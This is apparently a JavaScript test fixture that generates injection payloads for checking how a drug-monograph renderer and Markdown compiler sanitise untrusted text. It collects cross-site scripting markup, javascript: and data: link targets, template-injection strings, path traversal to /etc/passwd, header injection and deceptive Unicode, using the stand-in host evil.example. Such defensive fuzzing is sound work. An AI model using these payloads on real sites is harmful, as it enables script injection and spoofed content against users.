// Text that tries to be more than text: what an author, or whoever got at the sources or at the
// bundle, could write to run a script, to send a request or to disguise something.
//
// Every payload that runs calls `ran()` or asks the host `evil.example` for something, so one look
// at both tells whether it got through. The list is made of parts, so that each trick meets each
// way out of where it stands.

const CODE = "ran(1)";
const AWAY = "//evil.example/x";

/** Ways out of an attribute, an element, a comment, a script, a template or CDATA; and none. */
const BREAKOUTS = ["", '">', "'>", "-->", "</script>", "</style>", "</template>", "</title></textarea>", "]]>", "{{", "\\\">"];

/** Markup that runs or loads something by itself. */
const MARKUP = [
  `<script>${CODE}</script>`,
  `<SCRIPT SRC="${AWAY}.js"></SCRIPT>`,
  `<img src=x onerror="${CODE}">`,
  `<img src="${AWAY}.png">`,
  `<svg onload="${CODE}">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x">`,
  `<math><mtext></mtext><script>${CODE}</script></math>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<video><source onerror="${CODE}"></video>`,
  `<audio src="${AWAY}" autoplay></audio>`,
  `<body onload="${CODE}">`,
  `<details open ontoggle="${CODE}">x</details>`,
  `<input autofocus onfocus="${CODE}">`,
  `<form action="${AWAY}"><button autofocus>x</button></form>`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<link rel="prefetch" href="${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<style>@import "${AWAY}.css"; * { display: none !important }</style>`,
  `<p style="background:url(${AWAY}.png)">x</p>`,
  `<template shadowrootmode="open"><script>${CODE}</script></template>`,
  `<marquee onstart="${CODE}">x</marquee>`,
  `<a href="javascript:${CODE}" autofocus>x</a>`,
  `<monograph-card drug="x" src="${AWAY}"></monograph-card>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<!--><img src=x onerror="${CODE}">-->`,
  `<![CDATA[<img src=x onerror="${CODE}">]]>`,
  `<?xml version="1.0"?><x onclick="${CODE}"/>`,
  `<img/src=x/onerror=${CODE}//`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `&lt;img src=x onerror=${CODE}&gt;`,
  `&#60;img src=x onerror=${CODE}&#62;`,
  `\u003cimg src=x onerror=${CODE}\u003e`,
  `![x](${AWAY}.png)`,
  `![x](javascript:${CODE})`,
];

/** Targets of links that are none of http, https, mailto and tel. */
const TARGETS = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\tjavascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java&#10;script:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://example.org/%0a${CODE}`,
  `\u0001javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
  `vbscript:${CODE}`,
  "file:///etc/passwd",
  "blob:https://example.org/x",
  "filesystem:https://example.org/x",
  "intent://x#Intent;end",
  "ms-settings:x",
  "view-source:https://example.org",
  AWAY,
  "/admin/delete",
  "../up",
  "?drop=1",
  "httpx://example.org",
  `https:javascript:${CODE}`,
];

/** Templates of frameworks, prototype names, formats and escapes. */
const STRINGS = [
  "${ran(1)}",
  "{{constructor.constructor('ran(1)')()}}",
  "<%= ran(1) %>",
  "#{ran(1)}",
  "`;ran(1)//",
  "';ran(1)//",
  "\\u003cscript>ran(1)</script>",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "[object Object]",
  "%s%s%n%x",
  "../../../../etc/passwd",
  "\r\nSet-Cookie: x=1",
  "url(//evil.example/x)",
  "expression(ran(1))",
  "};*{display:none}",
  "/* */;}body{background:url(//evil.example/x)}",
  "a".repeat(5000),
  "<".repeat(500),
  "&".repeat(500),
];

/** Unicode that hides, turns round or looks like something else. */
const UNICODE = [
  "\u202e10 mg\u202c",
  "\u2066gm 01\u2069",
  "\u200b\u200c\u200d\ufeff",
  "\u2028ran(1)\u2029",
  "\u0085next line",
  "＜script＞ran(1)＜/script＞",
  "ſcript <ſcript>ran(1)</ſcript>",
  "K\u212a \u0130",
  "e" + "\u0301".repeat(200),
  "\ufdfd".repeat(20),
  "\u{e0041}\u{e007f}",
  "\ufffe\uffff",
  "\u{1f9ea}\u{200d}\u{1f9ea}",
  "аmlodipine in Cyrillic",
];

/** Targets that are no links, and what stands in text. */
export const targets = TARGETS;

/** All payloads: each a text that may stand in any field. */
export const payloads = [
  ...new Set([
    ...BREAKOUTS.flatMap((out) => MARKUP.map((markup) => out + markup)),
    ...TARGETS,
    ...TARGETS.map((target) => `[x](${target})`),
    ...TARGETS.map((target) => `<${target}>`),
    ...TARGETS.map((target) => `<a href="${target}">x</a>`),
    ...STRINGS,
    ...UNICODE,
  ]),
];

/** A monograph with the payload in every field there is. */
export const infested = (id, payload, target = payload) => ({
  id,
  title: payload || "x",
  lang: payload,
  generic_name: payload,
  brand_names: [payload, payload],
  boxed_warning: payload,
  sections: [
    {
      kind: "usage",
      title: payload,
      ingredient: payload,
      blocks: [
        payload,
        { p: [payload, { em: payload }, { strong: [payload] }, { sub: payload }, { sup: payload }, { code: payload }] },
        { p: [{ link: { href: target, text: payload } }, { link: { href: "https://example.org/", text: payload } }] },
        { heading: { level: 3, text: payload } },
        { ul: [payload, [{ p: [payload] }, { ul: [payload] }]] },
        { ol: { start: 3, items: [payload] } },
        { table: { head: [payload], rows: [[payload]] } },
        { quote: [payload] },
        { code: payload },
      ],
    },
    { kind: "side-effects", title: payload, blocks: [{ group: { label: payload, blocks: [payload] } }] },
    { kind: "other", title: payload, blocks: [payload] },
  ],
  faqs: [{ id: "x", ingredient: payload, question: payload, answer: payload }],
  disclaimer: payload,
  note: payload,
  provenance: payload,
  sources: [{ document: payload, section: payload, url: target }],
  reviewed_by: payload,
  reviewed_on: payload,
  review_due: payload,
});

/**
 * The same as a Markdown file. A JSON string is a YAML string, too. A source's `url` has to begin as
 * one, or the compiler refuses the file; so it does one whose `lang` is no language's tag, so here is
 * none.
 */
export const source = (payload) => {
  const yaml = JSON.stringify(payload);
  const line = payload.replaceAll(/[\r\n\u2028\u2029\u0085]/g, " ");
  const cell = line.replaceAll("|", "\\|");
  return `---
title: ${JSON.stringify(payload || "x")}
generic_name: ${yaml}
brand_names: [${yaml}, ${yaml}]
boxed_warning: ${yaml}
provenance: ${yaml}
reviewed_by: ${yaml}
sources:
  - document: ${yaml}
    section: ${yaml}
    url: ${JSON.stringify(`https://example.org/${payload}`)}
---

**Usage:** ${payload}

${payload}

[${line}](<${line}>) and [link](${line}) and \`${line}\`

| ${cell} | x |
| --- | --- |
| ${cell} | x |

> ${line}

**Side effects:**

${line}:
* ${line}

### ${line}

${payload}

**FAQs:**

* **${line}?** ${line}

**Disclaimer:** ${payload}

**Note:** ${payload}
`;
};
